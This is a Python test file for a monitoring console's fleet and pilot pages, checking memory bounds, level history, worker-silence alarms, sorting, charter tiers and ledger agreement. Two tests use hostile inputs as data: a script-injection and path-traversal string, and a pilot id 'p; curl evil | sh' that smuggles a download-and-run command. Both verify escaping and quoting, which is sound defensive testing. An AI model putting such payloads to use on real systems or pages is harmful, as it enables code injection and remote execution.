"""The fleet view is a bounded projection, and the pages of the board show its content, for any names."""

from __future__ import annotations

from html import escape
from html.parser import HTMLParser
from pathlib import Path

import msgspec
import pytest

from monitor.console.board_json import as_data
from monitor.console.charter_page import charter_page
from monitor.console.fleet_page import SORTS, Query, fleet_page
from monitor.console.fleet_view import FleetView
from monitor.console.owner_liveness import OwnerLiveness
from monitor.console.pilot_page import pilot_page
from monitor.engine.replay import replay_charters, timed_records
from monitor.model.records import Closed, Decision, Evidence, Finding, Level, Outputs, Reason, command_of
from monitor.notary.notary import Notary
from monitor.notary.verify import entries, ledgers, verify
from monitor.simulation.fleet import Fleet
from monitor.testing.records import decision, evidence


def fed(
    *decisions: Decision, periods: list[Evidence | Closed] | None = None, board: FleetView | None = None
) -> FleetView:
    board = board or FleetView()
    board.apply(Outputs(decisions=list(decisions), evidence=periods or []))
    return board


def test_the_level_and_its_cause_are_those_of_the_last_move() -> None:
    """A further finding at the same level changes neither since when nor why."""
    board = fed(
        decision(1, kind="act", level=Level.NORMAL, reason=Reason.ADMITTED, at=10),
        decision(2, at=20),
        decision(3, kind="finding", level=Level.ESCALATE, was=Level.ESCALATE, reason=Reason.CHANGE_DETECTED, at=30),
    )
    view = board.pilots["p-1"]
    assert (view.level, view.since) == (Level.ESCALATE, 20)
    assert view.why is not None
    assert view.why.reason is Reason.LIMIT_HALF_WAY


def test_the_unknown_flag_has_its_own_time() -> None:
    """Since when a pilot is unknown outlives further reasons, and ends when it is known."""
    flag = {"kind": "flag", "level": Level.NORMAL, "finding": Finding()}
    board = fed(decision(1, unknown="silence", at=10, **flag), decision(2, unknown="partial_data", at=20, **flag))
    view = board.pilots["p-1"]
    assert (view.unknown, view.unknown_since) == ("partial_data", 10)
    fed(decision(3, unknown="", at=30, reason=Reason.HEARD_AGAIN, **flag), board=board)
    assert (view.unknown, view.unknown_since) == ("", None)


def test_repeated_outputs_change_nothing() -> None:
    """Applied twice, outputs give the same pages and data as applied once."""
    decisions = [decision(n) for n in (1, 2, 3)]
    periods: list[Evidence | Closed] = [evidence(n) for n in range(5)]
    once = fed(*decisions, periods=periods)
    twice = fed(*decisions, periods=periods, board=fed(*decisions, periods=periods))
    assert as_data(once) == as_data(twice)
    assert pilot_page(once, "p-1") == pilot_page(twice, "p-1")


def test_memory_is_bounded() -> None:
    """The board holds a bounded number of periods, streams, decisions and pilots, and shows how many pilots it
    omits."""
    board = FleetView(periods=10, streams=2, decisions=5, most=5)
    for n in range(50):
        records: list[Evidence | Closed] = [evidence(n, segment=str(n % 4), late=late) for late in (False, True)]
        fed(decision(n), decision(1, f"p-{n}"), periods=records, board=board)
    view = board.pilots["p-1"]
    assert len(view.decisions) == 5
    assert {len(stream) for stream in view.streams.values()} == {10}
    assert len(view.streams) == 2
    assert len(board.pilots) == 5
    assert board.left_out == 45
    assert "45 more not shown" in fleet_page(board)


def test_an_open_command_has_a_row_until_it_is_done() -> None:
    """Action, state, time and number of attempts; gone when the halt is verified."""
    halt = decision(1, "p-1", level=Level.HALT, reason=Reason.LIMIT_EXCEEDED)
    command = command_of(halt)
    assert command is not None
    board = fed(halt, decision(1, "calm", level=Level.NORMAL, reason=Reason.ADMITTED, kind="act"))
    for again in (0, 1, 2, 1):
        board.apply(Outputs(commands=[msgspec.structs.replace(command, again=again)]))
    page, own = fleet_page(board), pilot_page(board, "p-1") or ""
    assert "1 open command" in page
    assert "commanded: not acknowledged; resent until it is" in page
    assert "3 attempts" in own
    row = as_data(board)["pilots"][0]["order"]  # type: ignore[index]
    assert (row["action"], row["state"], row["told"], row["open"]) == ("halt", "commanded", 3, True)
    fed(decision(2, "p-1", level=Level.HALT, was=Level.HALT, reason=Reason.HALT_VERIFIED, kind="act"), board=board)
    assert "open command" not in fleet_page(board)


def test_a_board_without_a_worker_does_not_look_calm() -> None:
    """More than 30 s after the last write of a partition's worker both pages show it with its time; a partition that is
    not watched is never silent; one without any write is silent 30 s after the watch began."""
    board = fed(decision(1))
    assert as_data(board, 10**15)["worker"] == {"last_heard": None, "silent_partitions": []}
    board.liveness.watch(0, 1_000)
    board.liveness.watch(1, 1_000)
    board.liveness.mark_alive(0, 5_000)
    assert (board.liveness.silent(31_000), board.liveness.silent(31_001), board.liveness.last_seen) == ([], [1], None)
    assert "No worker for partition 1 seen so far." in fleet_page(board, now=31_001)
    assert "No decisions are taken about its pilots until a worker is back" in fleet_page(board, now=31_001)
    board.liveness.mark_alive(1, 20_000)
    board.liveness.mark_alive(0, 4_000)  # a late report does not lower the time
    for page in (fleet_page(board, now=35_000), pilot_page(board, "p-1", 35_000) or ""):
        assert 'class="alarm"' not in page
    assert 'worker last seen <time datetime="1970-01-01T00:00:05Z">' in fleet_page(board, now=35_000)
    for page in (fleet_page(board, now=50_001), pilot_page(board, "p-1", 50_001) or ""):
        assert '<p class="alarm" role="alert"><b>■ No worker seen since <time datetime="1970-01-01T00:00:05Z">' in page
    assert as_data(board, 50_000)["worker"] == {"last_heard": 5_000, "silent_partitions": [0]}


def test_a_clock_set_back_hides_no_crash() -> None:
    """Seen after the clock was set back by an hour, the worker is silent 30 s after that, not an hour later."""
    liveness = OwnerLiveness()
    liveness.mark_alive(0, 3_600_000)
    liveness.mark_alive(0, 10_000)
    assert (liveness.last_seen, liveness.silent(40_000), liveness.silent(40_001)) == (10_000, [], [0])


def test_an_act_shows_the_key_that_signed_it() -> None:
    """The id of the key, or that the act is not signed; other decisions show neither."""
    board = fed(
        decision(1, kind="act", cause="control:a", author="anna", signed="0123456789abcdef", reason=Reason.OVERRIDDEN),
        decision(2, kind="act", cause="control:b", author="ben", reason=Reason.OVERRIDDEN),
        decision(3, cause="event:s#1"),
    )
    page = pilot_page(board, "p-1") or ""
    assert page.count("signed by key 0123456789abcdef") == page.count("; not signed;") == 1


def test_a_finding_shows_the_key_that_shelve_takes() -> None:
    """The key of a finding is next to its numbers, and a shelving repeats it with its end."""
    finding = Finding(indicator="late-telemetry", rule="limit_e_process", statistic=9.0, bar=7.0)
    key = "late-telemetry//limit_e_process"
    aside = Finding(rule=key, detail="our outage", period_start=1_700_000_000_000, period_end=1_700_028_800_000)
    shelved = {"was": Level.ESCALATE, "level": Level.NORMAL, "reason": Reason.SHELVED, "cause": "control:a"}
    page = pilot_page(fed(decision(1, finding=finding), decision(2, finding=aside, **shelved)), "p-1") or ""
    assert f"finding {key}" in page
    assert f"{key}, until 2023-11-15 06:13:20 UTC; our outage" in page


def test_a_period_of_seconds_has_two_ends() -> None:
    """A period that is not in whole minutes is written with seconds."""
    finding = Finding(indicator="i", rule="limit", statistic=9.0, bar=7.0, period_start=5_000, period_end=10_000)
    page = pilot_page(fed(decision(1, finding=finding)), "p-1") or ""
    assert "period 1970-01-01 00:00:05 to 00:00:10 UTC" in page


def test_worst_comes_first_and_those_that_left_last() -> None:
    """Halts before escalations before unknown before normal; pilots that have left come last."""
    board = fed(
        decision(1, "calm", level=Level.NORMAL, reason=Reason.ADMITTED, kind="act"),
        decision(1, "gone", level=Level.HALT, reason=Reason.EXITED, kind="act"),
        decision(1, "dark", level=Level.NORMAL, unknown="silence", kind="flag"),
        decision(1, "halted", level=Level.HALT, reason=Reason.LIMIT_EXCEEDED),
        decision(1, "raised"),
    )
    assert [view.pilot for view in board.fleet()] == ["halted", "raised", "dark", "calm", "gone"]


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        (Query(level="halt"), ["b"]),
        (Query(level="unknown"), ["c"]),
        (Query(words="FIRM-1 a"), ["a"]),
        (Query(words="zzz"), []),
        (Query(sort="pilot"), ["a", "b", "c"]),
        (Query(sort="newest"), ["c", "b", "a"]),
        (Query(sort="nonsense"), ["b", "a", "c"]),
    ],
)
def test_the_fleet_is_filtered_and_sorted_as_asked(query: Query, shown: list[str]) -> None:
    """The page lists the pilots of the query in its order; an unknown order is worst first."""
    board = fed(
        decision(1, "a", at=1),
        decision(1, "b", at=2, level=Level.HALT, reason=Reason.LIMIT_EXCEEDED),
        decision(1, "c", at=3, level=Level.NORMAL, unknown="silence", kind="flag"),
    )
    page = fleet_page(board, query)
    page = page[page.index('class="filters"') :]  # the open commands before it do not depend on the query
    found = [name for name in sorted("abc", key=lambda name: page.find(f">{name}</a>")) if f">{name}</a>" in page]
    assert found == shown


EVIL = '<script>alert("x")</script>&\'"/../é'


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, str | None]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append(dict(attrs))
        assert not any(name.startswith("on") for name, _ in attrs)


def test_names_from_outside_are_text_and_nothing_else() -> None:
    """A pilot, firm, segment, indicator, author or detail that looks like HTML stays text on every page."""
    finding = Finding(
        indicator=EVIL, segment=EVIL, rule=EVIL, detail=EVIL, statistic=1.0, bar=2.0, observed=1.0, expected=0.5
    )
    evil = decision(1, EVIL, participant=EVIL, charter=EVIL, author=EVIL, cause=EVIL, unknown=EVIL, finding=finding)
    board = fed(evil, periods=[evidence(1, EVIL, indicator=EVIL, segment=EVIL, scores={EVIL: (1.0, 2.0)})])
    board.ledger = lambda pilot: (1, EVIL)
    for page in (fleet_page(board), fleet_page(board, Query(EVIL, EVIL, EVIL)), pilot_page(board, EVIL)):
        assert page is not None
        assert "<script>alert" not in page
        tags = Tags()
        tags.feed(page)
        assert tags.scripts == [{"src": "/board.js", "defer": None}]


def test_every_order_on_offer_works() -> None:
    """Each order in the list gives a page with every pilot."""
    board = fed(decision(1, "a"), decision(1, "b"))
    for sort in SORTS:
        assert fleet_page(board, Query(sort=sort)).count('<th scope="row">') == 2


def test_a_lowered_level_is_shown_as_lowered() -> None:
    """A level reached from above does not show its finding as new."""
    board = fed(decision(1), decision(2, level=Level.WATCH, was=Level.ESCALATE, reason=Reason.CLEARED))
    assert "Lowered from escalate: quiet for as long as the charter requires: incidents." in fleet_page(board)


def test_every_kept_decision_is_on_the_pilot_page() -> None:
    """The latest are open, earlier ones are folded and still on the page."""
    page = pilot_page(fed(*(decision(n) for n in range(1, 26))), "p-1")
    assert page is not None
    assert page.count("is half-way to its threshold") >= 25
    assert "15 earlier decisions" in page


def test_the_tier_comes_from_the_charter_that_is_in_force() -> None:
    """A charter is shown only with decisions that name its digest; an amendment replaces it."""
    from monitor.charter.spec import charter_hash
    from monitor.simulation.fleet_charter import charter

    one = charter("p-1", number=0, period_ms=3_600_000, cap=9.0, dispersion=1.0, start=0, end=1)
    two = msgspec.structs.replace(one, tier="critical", version=2)
    board = FleetView()
    board.learn(one)
    fed(decision(1, charter=charter_hash(one)), board=board)
    board.learn(two)
    assert '<td data-head="Tier">high</td>' in fleet_page(board)
    fed(decision(2, charter=charter_hash(two), kind="act", reason=Reason.AMENDED), board=board)
    assert '<td data-head="Tier">critical</td>' in fleet_page(board)
    fed(decision(3, charter="0" * 64), board=board)
    assert board.pilots["p-1"].plan is None


def test_a_refused_charter_admits_no_pilot_and_hides_none() -> None:
    """A board that reads control meets acts that the machine refuses: no pilot comes of one, and the charter in force
    is still found, whether its decisions are read before or after."""
    from monitor.charter.spec import charter_hash
    from monitor.simulation.fleet_charter import charter

    good = charter("p-1", number=0, period_ms=3_600_000, cap=9.0, dispersion=1.0, start=0, end=1)
    board = FleetView()
    board.learn(good)
    board.learn(msgspec.structs.replace(good, tier="minimal", version=2))
    board.learn(msgspec.structs.replace(good, pilot="never-admitted"))
    assert "No pilot has been admitted yet" in fleet_page(board)
    fed(decision(1, charter=charter_hash(good)), board=board)
    assert '<td data-head="Tier">high</td>' in fleet_page(board)
    assert list(board.pilots) == ["p-1"]


def test_the_board_and_the_ledger_agree_with_the_outputs_of_a_machine(tmp_path: Path) -> None:
    """A simulated fleet through the real machine: same levels on the board as in the record, each decision said, each
    entered."""
    fleet = Fleet(7, pilots=4, scenarios=["calm", "step", "group", "silence"], hours=72)
    board, notary = FleetView(), Notary(tmp_path)
    board.ledger = notary.head
    decisions: list[Decision] = []
    commands: set[str] = set()  # a retransmission is the same entry
    for outputs in replay_charters(
        [fleet.charter_for(pilot) for pilot in fleet.pilots], timed_records(fleet), batch=500
    ):
        board.apply(outputs)
        notary.record(outputs.decisions, outputs.commands)
        decisions += outputs.decisions
        commands |= {command.id for command in outputs.commands}
    assert {view.level for view in board.fleet()} >= {Level.HALT}
    for pilot, view in board.pilots.items():
        record = [taken for taken in decisions if taken.pilot == pilot]
        assert view.level == record[-1].level
        page = pilot_page(board, pilot)
        assert page is not None
        for taken in record:
            assert escape(view.say(taken)) in page
    assert sum(verify(file).entries for file in ledgers(tmp_path)) == len(decisions) + len(commands)
    assert {entry.id for file in ledgers(tmp_path) for entry in entries(file)} >= {taken.id for taken in decisions}
    notary.close()


def test_the_page_shows_the_alpha_used_and_the_alpha_that_may_be_spent() -> None:
    """On day one nothing is used; after a release the first run's shares are; each limit has its row with threshold and
    p-value."""
    from monitor.charter.spec import charter_hash
    from monitor.compile.plan import Plan
    from monitor.projections.formats import figure
    from monitor.simulation.fleet_charter import charter

    plan = charter("p-1", number=0, period_ms=3_600_000, cap=9.0, dispersion=1.0, start=0, end=1)
    board = FleetView()
    board.learn(plan)
    fed(decision(1, charter=charter_hash(plan), reason=Reason.ADMITTED, kind="act", finding=Finding()), board=board)
    page = pilot_page(board, "p-1") or ""
    first = figure(Plan(plan).alpha_spent(1))
    assert f"alpha 0 of 0.01 is used; the thresholds in force may spend at most {first}" in page
    assert '<th scope="row">incidents</th>' in page
    released = {"reason": Reason.RELEASED, "kind": "act", "finding": Finding(), "restart": 2}
    fed(decision(2, charter=charter_hash(plan), **released), board=board)
    page = pilot_page(board, "p-1") or ""
    assert f"Run 2 of the statistics: alpha {first} of 0.01 is used" in page
    assert f'<td data-head="Alpha used" class="number">{first} of 0.01</td>' in fleet_page(board)


def test_a_command_to_copy_quotes_the_id_of_a_pilot() -> None:
    """A firm chooses the id; a reader who pastes the command runs nothing else."""
    board = FleetView()
    board.apply(Outputs(decisions=[decision(1, "p; curl evil | sh")]))
    page = charter_page(board, "p; curl evil | sh", 0)
    assert page is not None
    assert "charter show &#39;p; curl evil | sh&#39;" in page
